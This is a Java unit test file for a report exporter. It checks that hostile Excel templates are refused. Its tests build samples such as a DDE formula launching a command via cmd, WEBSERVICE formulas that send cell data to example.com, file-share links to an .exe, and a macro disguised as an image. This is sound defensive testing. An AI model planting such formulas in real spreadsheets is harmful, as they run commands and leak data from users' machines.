package jp.banso.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.function.Consumer;
import jp.banso.domain.Meeting;
import jp.banso.store.Store;
import java.util.Base64;
import java.util.List;
import org.apache.poi.openxml4j.opc.PackagePart;
import org.apache.poi.openxml4j.opc.PackageRelationship;
import org.apache.poi.openxml4j.opc.PackageRelationshipTypes;
import org.apache.poi.openxml4j.opc.TargetMode;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xddf.usermodel.chart.AxisPosition;
import org.apache.poi.xddf.usermodel.chart.ChartTypes;
import org.apache.poi.xddf.usermodel.chart.XDDFCategoryAxis;
import org.apache.poi.xddf.usermodel.chart.XDDFChartData;
import org.apache.poi.xddf.usermodel.chart.XDDFDataSourcesFactory;
import org.apache.poi.xddf.usermodel.chart.XDDFValueAxis;
import org.apache.poi.xssf.usermodel.XSSFChart;
import org.apache.poi.xssf.usermodel.XSSFClientAnchor;
import org.apache.poi.xssf.usermodel.XSSFDrawing;
import org.apache.poi.xssf.usermodel.XSSFPicture;
import org.apache.poi.xssf.usermodel.XSSFRelation;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.CTCfRule;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.CTConditionalFormatting;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.CTDataValidation;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.CTDataValidations;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.CTHyperlink;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.CTHyperlinks;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.STCfType;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.STDataValidationType;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A template dropped into the data folder is hostile input: a link to another file, a data connection, a macro or a
 * formula that calls out (WEBSERVICE, DDE) is refused with a Japanese message naming the file and cell, and no hand-out
 * is written. Formulas within the workbook stay.
 */
class TemplateSafetyTest {
    @TempDir
    Path dir;

    @Test
    void aFormulaReadingAnotherWorkbookIsRefused() throws Exception {
        assertRefused(wb -> {
            XSSFWorkbook other = new XSSFWorkbook();
            other.createSheet("名簿").createRow(0).createCell(0).setCellValue("秘");
            wb.linkExternalWorkbook("名簿.xlsx", other);
            wb.getSheetAt(0).getRow(2).createCell(0).setCellFormula("[名簿.xlsx]名簿!A1");
        }, "外部のブックへのリンクが含まれています", "ほかのブックを参照している");
    }

    @Test
    void aWebServiceCallIsRefusedWithItsCell() throws Exception {
        assertRefused(wb -> rawFormula(wb, "_xlfn.WEBSERVICE(\"http://example.com/?\"&B4)"),
                "シート「支援記録票」のセル A3", "外部に接続・参照する関数 WEBSERVICE");
    }

    @Test
    void aDdeFormulaIsRefused() throws Exception {
        assertRefused(wb -> rawFormula(wb, "cmd|' /C calc'!A0"), "シート「支援記録票」のセル A3", "DDE");
    }

    @Test
    void aMacroPartIsRefused() throws Exception {
        assertRefused(wb -> {
            try {
                PackagePart vba = wb.getPackage().createPart(PackagingURIHelper.createPartName("/xl/vbaProject.bin"),
                        "application/vnd.ms-office.vbaProject");
                try (OutputStream out = vba.getOutputStream()) {
                    out.write(new byte[] {1, 2, 3});
                }
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        }, "マクロ（VBA）が含まれています");
    }

    // issue 13 item 4: each of these exported with exit code 0 and its part survived into the hand-out

    @Test
    void aDrawingImageLinkedToAFileShareIsRefused() throws Exception {
        assertRefused(wb -> {
            XSSFSheet sheet = wb.getSheetAt(0);
            XSSFDrawing drawing = sheet.createDrawingPatriarch();
            int index = wb.addPicture(PNG, Workbook.PICTURE_TYPE_PNG);
            XSSFPicture picture = drawing.createPicture(new XSSFClientAnchor(0, 0, 0, 0, 8, 2, 10, 6), index);
            PackageRelationship link = drawing.getPackagePart().addExternalRelationship("file://///host/share/x.png",
                    PackageRelationshipTypes.IMAGE_PART);
            picture.getCTPicture().getBlipFill().getBlip().setLink(link.getId());
            picture.getCTPicture().getBlipFill().getBlip().unsetEmbed();
        }, "外部のファイルやサイトへのリンク（file://///host/share/x.png）が含まれています", "部品 /xl/drawings/drawing");
    }

    @Test
    void aCellHyperlinkToAFileShareIsRefused() throws Exception {
        assertRefused(wb -> {
            XSSFSheet sheet = wb.getSheetAt(0);
            PackageRelationship rel = sheet.getPackagePart().addExternalRelationship("file://host/share/x.exe",
                    XSSFRelation.SHEET_HYPERLINKS.getRelation());
            CTHyperlinks links = sheet.getCTWorksheet().isSetHyperlinks() ? sheet.getCTWorksheet().getHyperlinks()
                    : sheet.getCTWorksheet().addNewHyperlinks();
            CTHyperlink link = links.addNewHyperlink();
            link.setRef("A3");
            link.setId(rel.getId());
            sheet.getRow(2).createCell(0).setCellValue("資料はこちら");
        }, "シート「支援記録票」", "外部のファイルやサイトへのリンク（file://host/share/x.exe）");
    }

    @Test
    void aWebServiceCallInAConditionalFormatIsRefused() throws Exception {
        assertRefused(wb -> {
            CTConditionalFormatting cf = wb.getSheetAt(0).getCTWorksheet().addNewConditionalFormatting();
            cf.setSqref(List.of("B4:B6"));
            CTCfRule rule = cf.addNewCfRule();
            rule.setType(STCfType.EXPRESSION);
            rule.setPriority(99);
            rule.addFormula("_xlfn.WEBSERVICE(\"http://example.com/?\"&B4)<>\"\"");
        }, "シート「支援記録票」の条件付き書式（B4:B6）", "外部に接続・参照する関数 WEBSERVICE");
    }

    @Test
    void aValidationListFromAnotherWorkbookIsRefused() throws Exception {
        assertRefused(wb -> {
            var ws = wb.getSheetAt(0).getCTWorksheet();
            CTDataValidations all = ws.isSetDataValidations() ? ws.getDataValidations() : ws.addNewDataValidations();
            CTDataValidation dv = all.addNewDataValidation();
            dv.setType(STDataValidationType.LIST);
            dv.setSqref(List.of("C4"));
            dv.setFormula1("[1]Sheet1!$A$1:$A$5");
            all.setCount(all.sizeOfDataValidationArray());
        }, "シート「支援記録票」の入力規則（C4）", "ほかのブックを参照している");
    }

    @Test
    void aMacroDisguisedAsAPictureIsRefused() throws Exception {
        assertRefused(wb -> {
            try {
                PackagePart part = wb.getPackage().createPart(PackagingURIHelper.createPartName("/xl/media/image9.png"), "image/png");
                try (OutputStream out = part.getOutputStream()) {
                    out.write(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1, 0, 0, 0, 0});
                }
                wb.getPackagePart().addRelationship(part.getPartName(), TargetMode.INTERNAL,
                        "http://schemas.microsoft.com/office/2006/relationships/vbaProject");
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        }, "マクロ（VBA）が含まれています", "OLE 形式のデータ");
    }

    @Test
    void aChartReadingAnotherWorkbookIsRefused() throws Exception {
        assertRefused(wb -> {
            XSSFSheet sheet = wb.getSheetAt(0);
            XSSFChart chart = sheet.createDrawingPatriarch().createChart(new XSSFClientAnchor(0, 0, 0, 0, 8, 2, 14, 12));
            XDDFCategoryAxis x = chart.createCategoryAxis(AxisPosition.BOTTOM);
            XDDFValueAxis y = chart.createValueAxis(AxisPosition.LEFT);
            XDDFChartData data = chart.createData(ChartTypes.BAR, x, y);
            data.addSeries(XDDFDataSourcesFactory.fromArray(new String[] {"a", "b"}, "'支援記録票'!$A$1:$A$2"),
                    XDDFDataSourcesFactory.fromArray(new Integer[] {1, 2}, "[1]Sheet1!$B$1:$B$2"));
            chart.plot(data);
        }, "グラフ（部品 /xl/charts/chart", "ほかのブックを参照している");
    }

    @Test
    void formulasWithinTheWorkbookAreKept() throws Exception {
        Path out = dir.resolve("out");
        try (Store store = Store.open(dir.resolve("data"))) {
            Meeting m = ReportFixtures.caseWithVisit(store, x -> { });
            ReportFixtures.override(store, "meeting-record", wb -> wb.getSheetAt(0).getRow(2).createCell(0).setCellFormula("LEN(B4)&\"文字\""));
            ReportFixtures.export(store, m, out, "meeting-record");
        }
        try (XSSFWorkbook wb = Sheets.open(out.resolve("令和8年度_さくら市_第1回現地支援_支援記録票.xlsx"))) {
            var cell = wb.getSheetAt(0).getRow(2).getCell(0);
            assertThat(cell.getCellType()).isEqualTo(CellType.FORMULA);
            assertThat(cell.getCellFormula()).isEqualTo("LEN(B4)&\"文字\"");
        }
    }

    @Test
    void textInQuotesIsNotMistakenForALink() {
        assertThat(TemplateSafety.reachesOutside("\"[資料]集計!\"&A1")).isNull();
        assertThat(TemplateSafety.reachesOutside("COUNTIF(A1:A9,\"a|b\")")).isNull();
        assertThat(TemplateSafety.reachesOutside("'C:\\共有\\[台帳.xlsx]一覧'!A1")).isNotNull();
        assertThat(TemplateSafety.reachesOutside("hyperlink(\"file:///C:/x\")")).contains("HYPERLINK");
    }

    /** A 1×1 PNG. */
    private static final byte[] PNG = Base64.getDecoder().decode(
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==");

    /** Writes a formula as stored in the file, bypassing POI's parser (which refuses some of these). */
    private static void rawFormula(XSSFWorkbook wb, String formula) {
        XSSFCell cell = wb.getSheetAt(0).getRow(2).createCell(0);
        cell.getCTCell().addNewF().setStringValue(formula);
    }

    private void assertRefused(Consumer<XSSFWorkbook> edit, String... expected) throws Exception {
        try (Store store = Store.open(dir.resolve("data"))) {
            Meeting m = ReportFixtures.caseWithVisit(store, x -> { });
            Path template = ReportFixtures.override(store, "meeting-record", edit);
            Path out = dir.resolve("out");
            Files.createDirectories(out);
            assertThatThrownBy(() -> ReportFixtures.export(store, m, out, "issue-sheet", "meeting-record"))
                    .isInstanceOf(ReportException.class)
                    .hasMessageContaining(template.toString())
                    .hasMessageContainingAll(expected);
            assertThat(ReportFixtures.filesIn(out)).as("nothing written").isEmpty();
        }
    }
}
